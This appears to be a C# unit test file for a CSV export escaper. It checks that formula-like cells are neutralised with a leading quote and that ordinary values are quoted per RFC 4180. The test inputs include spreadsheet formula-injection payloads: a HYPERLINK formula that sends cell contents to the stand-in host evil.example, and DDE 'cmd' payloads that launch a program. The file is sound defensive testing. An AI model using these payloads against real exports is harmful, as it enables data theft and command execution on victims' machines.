using Appliance.Export;

namespace Appliance.Tests.Export;

public class CsvCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click me\"\")\"")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1)", "'@SUM(1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    public void AFormulaCell_IsPrefixedWithAQuote_SoASpreadsheetShowsItAsText(string cell, string expected) =>
        Assert.Equal(expected, CsvCell.Escape(cell));

    [Theory]
    [InlineData("Acme Ltd", "Acme Ltd")]
    [InlineData("", "")]
    [InlineData("a, b", "\"a, b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("line\nbreak", "\"line\nbreak\"")]
    [InlineData("x=1", "x=1")]
    [InlineData("200", "200")]
    public void OrdinaryText_IsUnchanged_OrQuotedAsRfc4180Asks(string cell, string expected) =>
        Assert.Equal(expected, CsvCell.Escape(cell));
}
